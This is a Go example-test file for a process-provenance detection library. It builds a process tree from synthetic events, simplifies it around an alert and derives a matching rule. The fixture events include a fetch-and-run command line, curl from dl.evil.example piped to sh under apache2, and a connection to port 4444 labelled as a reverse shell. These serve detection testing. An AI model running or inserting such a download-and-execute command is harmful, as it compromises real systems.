package provenance_test

import (
	"fmt"
	"net/netip"
	"time"

	"github.com/procwall/procwall/proctree/provenance"
	"github.com/procwall/procwall/source"
)

func exampleEvents() []source.Event {
	t := time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC)
	return []source.Event{
		{Time: t, Kind: source.KindExec, PID: 100, PPID: 1, Exe: "/usr/sbin/apache2", Argv: []string{"apache2", "-k", "start"}},
		{Time: t, Kind: source.KindExec, PID: 200, PPID: 100, Exe: "/usr/bin/bash", Cwd: "/tmp",
			Argv: []string{"bash", "-c", "curl -fsSL http://dl.evil.example/x.sh -o x.sh && sh x.sh"}},
		{Time: t, Kind: source.KindExec, PID: 201, PPID: 200, Exe: "/usr/bin/curl", Cwd: "/tmp",
			Argv: []string{"curl", "-fsSL", "http://dl.evil.example/x.sh", "-o", "x.sh"}},
		{Time: t, Kind: source.KindDNS, PID: 201, Query: "dl.evil.example", Answers: []netip.Addr{netip.MustParseAddr("203.0.113.10")}},
		{Time: t, Kind: source.KindExec, PID: 202, PPID: 200, Exe: "/usr/bin/dash", Cwd: "/tmp", Argv: []string{"sh", "x.sh"}},
		{Time: t, Kind: source.KindConnect, PID: 202, Dst: netip.MustParseAddrPort("203.0.113.10:4444")},
		{Time: t, Kind: source.KindRisk, PID: 202, Level: source.LevelHigh, Reason: "reverse shell"},
	}
}

// Build the tree from events, simplify around the alert, list the graph.
func ExampleTree_Simplify() {
	tr := provenance.NewTree()
	for _, e := range exampleEvents() {
		if err := tr.Add(e); err != nil {
			panic(err)
		}
	}
	alert := tr.Alerts()[0] // the risk event; or any "pid", "pid@start", GUID
	g, err := tr.Simplify(alert.ID, provenance.Options{})
	if err != nil {
		panic(err)
	}
	names := map[string]string{}
	for _, n := range g.Nodes {
		names[n.ID] = n.Name
	}
	for _, e := range g.Edges {
		fmt.Printf("%s -%s-> %s\n", names[e.From], e.Kind, names[e.To])
	}
	// The bash -c wrapper is dropped (a default rule): its resources are
	// hoisted to apache2 and its child re-linked.

	// Output:
	// pid 1 -spawned-> apache2
	// apache2 -fetched-> http://dl.evil.example/x.sh
	// http://dl.evil.example/x.sh -host-> dl.evil.example
	// apache2 -downloaded-> /tmp/x.sh
	// apache2 -executed-> /tmp/x.sh
	// apache2 -spawned-> dash
	// dash -executed-> /tmp/x.sh
	// dash -connected-> 203.0.113.10
}

// Derive a feature rule from the graph of an alert and watch another host.
func ExampleDeriveRule() {
	tr := provenance.NewTree()
	for _, e := range exampleEvents() {
		tr.Add(e)
	}
	g, _ := tr.Simplify("201", provenance.Options{})
	rule, err := provenance.DeriveRule(g, "curl-download")
	if err != nil {
		panic(err)
	}
	m, _ := provenance.NewMatcher(rule)
	for _, e := range exampleEvents() {
		e.PID += 1000 // another host, other pids
		if e.PPID > 1 {
			e.PPID += 1000
		}
		ms, _ := m.Observe(e)
		for _, x := range ms {
			fmt.Printf("%s: pid %d matched %d features\n", x.Rule, x.Anchor.PID, len(x.Features))
		}
	}
	// Output:
	// curl-download: pid 1100 matched 4 features
}
